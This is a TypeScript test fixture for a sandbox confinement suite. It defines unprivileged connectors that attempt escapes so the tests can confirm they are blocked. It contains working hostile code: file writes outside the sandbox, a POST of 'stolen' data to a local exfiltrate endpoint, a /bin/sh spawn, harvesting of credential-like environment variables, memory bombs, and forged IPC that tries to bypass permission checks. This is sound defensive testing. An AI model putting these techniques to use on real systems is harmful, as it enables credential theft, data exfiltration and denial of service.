/**
 * Hostile connectors for the confinement suite (test/unit/connector-worker/hostile.test.ts),
 * loaded by a worker as its registry. Each one declares NO grant and then tries to reach the
 * world around the Sandbox — the things the lint rule on static imports cannot see: dynamic
 * `import('node:fs')`, the global `fetch`, `node:net`, `node:child_process`,
 * `node:worker_threads`, a file outside the application, `process.env`, an endless loop,
 * unbounded memory, a crash, a forged IPC message. Nothing here cooperates: each deploy does
 * its worst and lets whatever happens propagate. `file` is registered too, for the
 * legitimate deploy after each attack.
 */
import { z } from 'zod';
import { defineConnector, EMPTY_GRANT, type Connector, type ConnectorDefinition, type Sandbox } from '@cert-deployer/connector-sdk';
import type * as ChildProcess from 'node:child_process';
import type * as Fs from 'node:fs';
import type * as FsPromises from 'node:fs/promises';
import type * as Net from 'node:net';
import type * as WorkerThreads from 'node:worker_threads';
import { fileConnector } from '../../../src/connectors/file/index.ts';

/** What an attack aims at, from the test: a path to write or read, a port, a marker file. */
const config = z.object({ path: z.string().default(''), port: z.number().int().default(0) });
type Config = z.infer<typeof config>;

const mod = (name: string): Promise<Record<string, unknown>> => import(/* @vite-ignore */ `node:${name}`) as Promise<Record<string, unknown>>;

function hostile(name: string, attack: (c: Config, signal: AbortSignal, sandbox: Sandbox) => Promise<string>): ConnectorDefinition<unknown> {
  return defineConnector({
    name,
    configSchema: config,
    create: (c: Config): Connector => ({
      name,
      capabilities: () => EMPTY_GRANT,
      deploy: async (signal, sandbox) => ({ changed: true, message: await attack(c, signal, sandbox) }),
    }),
  }) as ConnectorDefinition<unknown>;
}

const attacks: ConnectorDefinition<unknown>[] = [
  hostile('fsWrite', async (c) => {
    const fs = (await mod('fs')) as typeof Fs;
    fs.writeFileSync(c.path, 'pwned');
    return 'wrote';
  }),
  hostile('fsChmod', async (c) => {
    const fs = (await mod('fs/promises')) as typeof FsPromises;
    await fs.chmod(c.path, 0o777);
    return 'chmodded';
  }),
  hostile('fsReadOutside', async (c) => {
    const fs = (await mod('fs/promises')) as typeof FsPromises;
    return `read: ${await fs.readFile(c.path, 'utf8')}`;
  }),
  hostile('fetch', async (c) => `fetched ${(await fetch(`http://127.0.0.1:${c.port}/exfiltrate`, { method: 'POST', body: 'stolen' })).status}`),
  hostile('netSocket', async (c) => {
    const net = (await mod('net')) as typeof Net;
    await new Promise<void>((resolve, reject) => {
      const s = net.connect(c.port, '127.0.0.1', () => s.end('stolen', resolve));
      s.on('error', reject);
    });
    return 'connected';
  }),
  hostile('spawn', async (c) => {
    const cp = (await mod('child_process')) as typeof ChildProcess;
    const r = cp.spawnSync('/bin/sh', ['-c', `echo pwned > ${c.path}`]);
    if (r.error) throw r.error;
    return `spawned ${r.status}`;
  }),
  hostile('worker', async () => {
    const wt = (await mod('worker_threads')) as typeof WorkerThreads;
    const w = new wt.Worker(new URL('data:text/javascript,1'));
    await w.terminate();
    return 'started a worker';
  }),
  hostile('envCredentials', async () => {
    const found = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY|PASSWORD|AWS_|AZURE_|GOOGLE_|KUBERNETES_/i.test(k));
    return `environment: ${Object.keys(process.env).length} variables, credentials: ${JSON.stringify(found)}`;
  }),
  // Not an attack: tells the pool tests which worker process served a call.
  hostile('whoami', async () => `pid ${process.pid}`),
  hostile('loop', async () => {
    for (;;) { /* never yields: the abort message can never be read */ }
  }),
  hostile('heapBomb', async () => {
    const hoard: unknown[] = [];
    for (;;) hoard.push({ a: Math.random(), b: new Array(64).fill(hoard.length) });
  }),
  hostile('bufferBomb', async () => {
    const hoard: Uint8Array[] = [];
    for (;;) {
      hoard.push(new Uint8Array(16 * 2 ** 20).fill(1));
      await new Promise((r) => setTimeout(r, 5));
    }
  }),
  hostile('crash', async () => {
    process.exit(7);
  }),
  hostile('forgedIpc', async (c, _signal, sandbox) => {
    // Goes around the Sandbox proxy, as code that had bypassed the permission model could: it
    // learns its call id from a harmless request, then sends a raw request to write outside any
    // grant and reads the parent's answer itself. The parent must still check it.
    type Send = (m: unknown) => boolean;
    const send = process.send!.bind(process) as Send;
    let call: unknown;
    process.send = ((m: { t?: string; call?: unknown }) => {
      if (m.t === 'sandbox') call = m.call;
      return send(m);
    }) as typeof process.send;
    await sandbox.readFile('/nonexistent-probe').catch(() => undefined);
    process.send = send as typeof process.send;
    const answer = new Promise<{ ok: boolean; error?: { code?: string; message: string } }>((resolve) => {
      process.on('message', (m: { t?: string; id?: number; outcome?: { ok: boolean; error?: { code?: string; message: string } } }) => {
        if (m.t === 'reply' && m.id === 1_000_000 && m.outcome) resolve(m.outcome);
      });
    });
    send({ v: 1, t: 'sandbox', id: 1_000_000, call, method: 'writeFile', args: [c.path, 'forged', {}] });
    const outcome = await answer;
    if (outcome.ok) return 'the forged write was performed';
    return `refused: ${outcome.error?.code ?? 'no code'}: ${outcome.error?.message ?? ''}`;
  }),
  hostile('badProtocol', async () => {
    process.send?.({ v: 99, t: 'anything' });
    await new Promise((r) => setTimeout(r, 10_000));
    return 'still here';
  }),
];

export const connectorsByName: ReadonlyMap<string, ConnectorDefinition<unknown>> = new Map([...attacks, fileConnector as ConnectorDefinition<unknown>].map((d) => [d.name, d]));
